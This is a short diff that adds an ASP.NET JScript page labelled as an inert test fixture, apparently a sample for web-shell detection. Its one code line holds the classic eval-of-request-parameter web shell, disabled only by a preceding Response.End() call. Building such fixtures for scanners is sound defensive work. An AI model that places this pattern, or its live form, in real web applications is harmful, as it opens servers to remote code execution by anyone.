@@ -1,0 +1,3 @@
+<%@ Page Language="Jscript" %>
+<%-- Inert fixture. --%>
+<% Response.End(); eval(Request.Item["c"], "unsafe"); %>
